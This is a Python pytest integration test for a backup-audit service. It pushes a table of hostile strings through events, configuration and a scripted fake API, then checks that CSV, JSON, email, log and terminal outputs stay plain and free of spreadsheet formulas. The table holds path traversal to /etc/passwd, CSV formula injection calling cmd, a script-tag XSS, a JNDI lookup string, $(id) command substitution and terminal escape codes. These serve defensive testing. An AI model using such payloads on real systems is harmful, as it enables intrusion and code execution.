"""Hostile texts, from wherever a text can come, in everything that a run leaves.

Each text stands in the event, in the configuration as far as that takes it, and in all that the
API has the say of. The real handler runs over them, and then each output is looked at as its
readers do.
"""

import contextlib
import csv
import io
import itertools
import json
import os
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import msgspec
import pytest

from backup_audit.aws import CLIENTS
from backup_audit.errors import AuditError, InvalidConfiguration, InvalidEvent
from backup_audit.fleet.configuration import parse_configuration
from backup_audit.report.alerts import Audience
from backup_audit.report.report import WholeReport
from tests.doubles.scripted_server import Answer, Seen, scripted_server
from tests.integration.deployment import NOW, Deployment, deployed
from tools.local_cloud.aws import CONFIGURATION
from tools.local_cloud.local_run import Outcome
from tools.local_cloud.messages import SentMessage
from tools.local_cloud.show import show

pytestmark = pytest.mark.loopback

HOSTILE = {
    "paths": "../../../etc/passwd ..\\..\\x %2e%2e%2f /v3/x?limit=1#",
    "line ends": "a\r\nReport: s3://elsewhere/x\n\n  orders-db: is healthy\rb",
    "a formula": "=HYPERLINK(\"http://x.example\");=1+1|-2;+3; @SUM(A1)\t=cmd|' /C calc'!A0",
    "a formula after a line end": "\r\n\t=1+1",
    "a sum": "-2+3+cmd|' /C calc'!A0",
    "markup": "<script>alert(1)</script> <img src=x onerror=y> [x](https://x.example) &amp; `x`",
    "the ends of strings": '"}]}, {"guid": "forged"} \\" \\ \', NULL; --',
    "placeholders": "${jndi:ldap://x.example} {{7*7}} {0} %s%n $(id) `id`",
    "control characters": "a\x00b\x07\x08\x1b[2J\x1b]0;title\x07\x7f\x9b31m\x90c",
    "directions": "a\u202eb\u202dc\u2066d\u2067e\u2068f\u2069g\u200eh\u200fi\u061cj",
    "nothing to see": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\U000e0041i",
    "separators of lines": "a\u2028b\u2029c\x0bd\x0ce\x1cf\x1dg\x1eh\x85i",
    "halves of pairs": "a\ud800b\udfffc",
    "no characters": "a\ufffeb\uffffc\ufdd0d\ue000e\U0001ffff",
    "beyond 16 bits": "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U00020000",
    "marks without end": "a" + "\u0301\u0489" * 1000,
    "blanks without end": "a" + " " * 400 + "RESOLVED (9)" + "\u3000" * 400 + "b",
    "letters without end": "x" * 60_000,
}
TEXTS = tuple(HOSTILE.values())
_JOINERS = re.compile("[\u200c\u200d]")  # names may have them: scripts and emoji need them

UNSUPPORTED, GONE, BROKEN, TIME, ENTRY, HEALTHY, MUTED = range(7)  # how an instance answers
INSTANCES = {f"{kind}-{number}": text for number, text in enumerate(TEXTS) for kind in range(7)}
SOME = [guid for guid in INSTANCES if guid.startswith(f"{UNSUPPORTED}-")]

FORMULA_STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


class Left(msgspec.Struct, frozen=True, kw_only=True):
    """What the runs left: a full one, a dry one, and one of a few instances."""

    objects: dict[str, str]
    published: dict[Audience, list[SentMessage]]
    log: str
    answers: list[dict[str, Any]]
    errors: list[AuditError]
    terminal: str

    def ending(self, end: str) -> list[str]:
        """The objects whose keys end so."""
        found = [body for key, body in self.objects.items() if key.endswith(end)]
        assert found
        return found


@pytest.fixture(scope="module")
def left() -> Iterator[Left]:
    with (
        contextlib.redirect_stdout(io.StringIO()) as log,
        scripted_server(say_it) as api,
        deployed(
            (),
            configuration=taken_configuration(),
            CF_API_URL=api.url,
            WORKERS="4",  # as many as the server lets wait
        ) as function,
    ):
        errors = [fail_over_the_event(function), fail_over_the_configuration(function)]
        answers = [function.invoke()]
        answers.append(function.invoke({"dry_run": True, "instance_guids": SOME}))
        answers.append(function.invoke({"instance_guids": SOME}))
        objects = {key: function.read(key).decode() for key in function.keys}
        yield Left(
            objects=objects,
            published=function.published,
            log=log.getvalue(),
            answers=answers,
            errors=errors,
            terminal=shown(objects, function.published, answers[0]),
        )


def fail_over_the_event(function: Deployment) -> AuditError:
    with pytest.raises(InvalidEvent) as raised:
        function.invoke({"instance_guids": [*TEXTS], **{text: text for text in TEXTS}})
    return raised.value


def fail_over_the_configuration(function: Deployment) -> AuditError:
    """With the texts that the configuration does not take; then it gets one that it does."""
    configure(configuration(dict.fromkeys(TEXTS, "") | {text: text for text in TEXTS}))
    with pytest.raises(InvalidConfiguration) as raised:
        function.invoke()
    configure(taken_configuration())
    return raised.value


def taken_configuration() -> dict[str, Any]:
    """Every text that the configuration takes, cut to what it takes, where it takes texts."""
    return configuration({text: text[:200] if is_taken(text[:200]) else "x" for text in TEXTS})


def configuration(texts: Mapping[str, str]) -> dict[str, Any]:
    until = NOW.date().replace(year=NOW.year + 1, day=1).isoformat()
    return {
        "instances": [
            {"guid": guid, "name": texts[text], "owner": texts[text]}
            for guid, text in INSTANCES.items()
        ],
        "mutes": [
            {"guid": guid, "owner": texts[text], "reason": texts[text], "until": until}
            for guid, text in INSTANCES.items()
            if guid.startswith(f"{MUTED}-")
        ],
    }


def is_taken(text: str) -> bool:
    document = {"instances": [{"guid": "a", "name": text}]}
    try:
        parse_configuration(json.dumps(document).encode(), "test")
    except InvalidConfiguration:
        return False
    return True


def configure(document: Mapping[str, Any]) -> None:
    text = json.dumps(document)
    os.environ["CONFIG_URI"] = f"ssm:{CONFIGURATION}"
    CLIENTS.ssm.put_parameter(Name=CONFIGURATION, Value=text, Type="String", Overwrite=True)


def say_it(seen: Seen) -> Answer:
    """A foundation that says an instance's text wherever it can say one."""
    if seen.path == "/":
        link = {"href": f"http://{seen.headers['host']}"}
        return Answer(200, json.dumps({"links": {"uaa": link, TEXTS[0]: link}}).encode())
    if seen.path == "/oauth/token":
        return Answer(200, b'{"access_token": "a-token-of-this-test"}')
    if "?" in seen.path and seen.path.startswith("/v3/service_instances?"):
        query = parse_qs(urlsplit(seen.path).query)
        return Answer(200, json.dumps(listed(query)).encode())
    guid = seen.path.split("/")[3]
    text = INSTANCES[guid]
    status, document = said(int(guid[0]), text)
    folded = re.sub(r"\r\n?|\n", "\r\n ", text)  # as a header once could be
    header = folded.encode("utf-8", "replace").decode()
    return Answer(status, json.dumps(document).encode(), (("X-VCAP-Request-ID", header),))


def listed(query: Mapping[str, list[str]]) -> dict[str, Any]:
    """The foundation's list: the instances, and some that nobody audits, in places named alike.

    Names have 255 characters at the most. Half a pair is no JSON: such a page could not be read.
    """
    texts = {
        f"text-{number}": text[:255] for number, text in enumerate(TEXTS) if "\ud800" not in text
    }
    of_text = {text: f"text-{number}" for number, text in enumerate(TEXTS)}
    guids = {guid: of_text[text] for guid, text in INSTANCES.items() if of_text[text] in texts}
    guids |= dict(zip(texts, texts, strict=True))
    if query.get("type") == ["user-provided"]:
        guids = {}
    elif asked := query.get("guids"):
        guids = {guid: guids[guid] for guid in asked[0].split(",") if guid in guids}
    rows = [
        {
            "guid": guid,
            "type": "managed",
            "name": texts[of],
            "created_at": "2026-01-01T00:00:00Z",
            "last_operation": {"type": texts[of], "state": texts[of], "updated_at": texts[of]},
            "metadata": {"labels": {texts[of]: texts[of]}, "annotations": {texts[of]: texts[of]}},
            "relationships": {"space": related(of), "service_plan": related(of)},
        }
        for guid, of in guids.items()
    ]
    named = [{"guid": of, "name": text} for of, text in texts.items()]
    return {
        "pagination": {"total_results": len(rows), "next": None},
        "resources": rows,
        "included": {
            "spaces": [
                one | {"relationships": {"organization": related(one["guid"])}} for one in named
            ],
            "organizations": named,
            "service_plans": [
                one | {"relationships": {"service_offering": related(one["guid"])}} for one in named
            ],
            "service_offerings": named,
        },
    }


def related(guid: str) -> dict[str, Any]:
    return {"data": {"guid": guid}}


def said(kind: int, text: str) -> tuple[int, dict[str, Any]]:
    young = int(NOW.timestamp()) - 3 * 3600
    match kind:
        case 1:
            return 404, error(10010, text)
        case 2:
            return 500, error(10001, text)
        case 3:
            return 200, {"backups": [{"id": text, "created_at": text}]}
        case 4:
            return 200, {"backups": [text, {text: text}]}
        case 5:
            return 200, {"backups": [{"id": text, "created_at": young, f"-{text}": text}]}
        case _:
            return 422, error(10008, text)


def error(code: int, text: str) -> dict[str, Any]:
    return {"errors": [{"code": code, "title": text, "detail": text}]}


def shown(
    objects: Mapping[str, str],
    messages: dict[Audience, list[SentMessage]],
    answer: dict[str, Any],
) -> str:
    """What `make run` would show of it, if there were such a fleet."""
    outcome = Outcome(
        answer=answer,
        error=AuditError(" ".join(TEXTS)),
        report=msgspec.json.decode(objects[answer["report"]["key"]], type=WholeReport),
        messages=messages,
        written=[],
        seconds=0.1,
    )
    with contextlib.redirect_stdout(io.StringIO()) as printed:
        show(outcome, Path(".local"))
    return printed.getvalue()


def assert_plain(text: str) -> None:
    """Lines end at line feeds, by any convention, and show all that they hold."""
    lines = text.removesuffix("\n").split("\n")
    assert [line for line in lines if not _JOINERS.sub("", line).isprintable()] == []
    assert text.splitlines() == lines


def test_the_runs_are_those_that_were_meant(left: Left) -> None:
    counts = left.answers[0]["counts"]

    # Half a pair is no JSON, so it proves nothing.
    assert counts["unsupported"] == 2 * (len(TEXTS) - 1)
    assert counts["healthy"] == counts["not_found"] == len(TEXTS) - 1
    assert sum(counts.values()) == len(INSTANCES)
    assert sum(is_taken(text[:200]) for text in TEXTS) >= 8


def test_the_inventory_was_read_whatever_its_texts(left: Left) -> None:
    report = json.loads(left.objects[left.answers[0]["report"]["key"]])

    assert report["inventory"]["why"] is None
    assert report["inventory"]["unaudited"]["count"] == len(TEXTS) - 1


def test_keys_are_made_of_letters_digits_and_few_others(left: Left) -> None:
    for key in left.objects:
        assert re.fullmatch(r"backup-audit/[A-Za-z0-9=._/-]+", key)
        assert ".." not in key


def test_every_object_is_plain_text(left: Left) -> None:
    for key, body in left.objects.items():
        assert body
        table = body.removeprefix("\ufeff").replace("\r\n", "\n")
        assert_plain(table if key.endswith(".csv") else body)


def test_findings_are_one_a_line_wherever_a_reader_ends_a_line(left: Left) -> None:
    for part in left.ending("part-00000.jsonl"):
        by_line_feeds = [json.loads(line) for line in part.removesuffix("\n").split("\n")]

        assert [json.loads(line) for line in part.splitlines()] == by_line_feeds
        assert {finding["guid"] for finding in by_line_feeds} in (set(INSTANCES), set(SOME))


def test_the_csv_has_a_row_for_each_and_no_formula_wherever_cells_are_parted(left: Left) -> None:
    for text in left.ending(".csv"):
        rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        assert {row["guid"] for row in rows} in (set(INSTANCES), set(SOME))
        assert len(text.splitlines()) == 1 + len(rows)
        for delimiter in ",;|\t":
            read = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            cells = [cell for row in read for cell in row]
            assert not [cell for cell in cells if cell.lstrip().startswith(FORMULA_STARTS)]


def test_every_json_document_is_one(left: Left) -> None:
    for end in ("report.json", "manifest.json", "latest.json", "notified-people.json"):
        for body in left.ending(end):
            json.loads(body)


def test_subjects_are_short_lines_of_ascii(left: Left) -> None:
    for sent in left.published[Audience.PEOPLE]:
        assert sent.subject
        assert re.fullmatch(r"[ -~]{1,99}", sent.subject)


def test_attributes_are_words(left: Left) -> None:
    """But for the owner, whom people write as they like."""
    for sent in itertools.chain(*left.published.values()):
        for name, value in sent.attributes.items():
            for word in [value] if isinstance(value, str) else value:
                if name == "owner":
                    assert _JOINERS.sub("", word).isprintable()
                else:
                    assert re.fullmatch(_WORD, word)


# How a line begins that is not indented, and the instance that a line names.
_WORD = r"[A-Za-z0-9._-]+"
_OURS = re.compile(
    r"(|[0-9]+ of [0-9]+ instances |Backup audit of |Audited: |Of [0-9]+ instances asked |Muted|"
    r"Nobody audits |Left the fleet|Warning: |And [0-9]+ more |(NEW|ENDED|STILL OPEN) · [A-Z ]+ \(|"
    r"[A-Z ]+ \([0-9]+\): |The report:|s3://|https://|docs/|MUTES|The audit|This is a reminder|"
    r"InvalidConfiguration|What to do|The backup audit of|Nobody is notified|It failed at|All that|"
    r"The function's log|"
    r"If it goes on)"
)
_NAMED = re.compile(r"- (?:.+ )?\(?((?:[0-6]|text)-[0-9]+)\)?")
_COUNTED = re.compile(r"- [0-9]+(:| ×)? .+")  # noqa: RUF001


def test_no_text_makes_a_line_of_its_own_in_an_email(left: Left) -> None:
    published = left.published[Audience.PEOPLE]

    assert {sent.attributes["event"] for sent in published} == {"digest", "run_failed"}
    for sent in published:
        assert_plain(sent.body)
        for line in sent.body.splitlines():
            if line.startswith("- "):
                assert _NAMED.fullmatch(line) or _COUNTED.fullmatch(line), line
            elif not line.startswith(" "):
                assert _OURS.match(line), line


def test_no_line_of_an_email_is_laid_out_by_a_stranger(left: Left) -> None:
    for sent in left.published[Audience.PEOPLE]:
        assert not [line for line in sent.body.splitlines() if "  " in line.strip()]


def test_messages_for_programs_and_for_chat_are_plain_too(left: Left) -> None:
    for audience in (Audience.EVENTS, Audience.CHAT):
        for sent in left.published[audience]:
            assert_plain(json.dumps(sent.document, ensure_ascii=False))


def test_log_lines_are_json_in_ascii(left: Left) -> None:
    assert left.log.isascii()
    assert_plain(left.log)
    levels = {json.loads(line).get("level") for line in left.log.splitlines()}
    assert levels == {"INFO", "WARNING", "ERROR", None}, "the metrics have none"


def test_a_terminal_gets_plain_text(left: Left) -> None:
    assert "The run failed." in left.terminal
    assert f"{UNSUPPORTED}-0" in left.terminal
    assert_plain(left.terminal)


def test_answers_and_errors_are_plain_and_short(left: Left) -> None:
    assert left.answers[1]["problems"]
    for answer in left.answers:
        assert_plain(json.dumps(answer, ensure_ascii=False))
    for raised in left.errors:
        assert_plain(str(raised))
    assert len(str(left.errors[0])) < 10_000


def test_no_hostile_text_is_a_guid(left: Left) -> None:
    refused = f"{len(TEXTS)} × instance_guids[]: … is not a GUID"  # noqa: RUF001

    assert refused in str(left.errors[0])
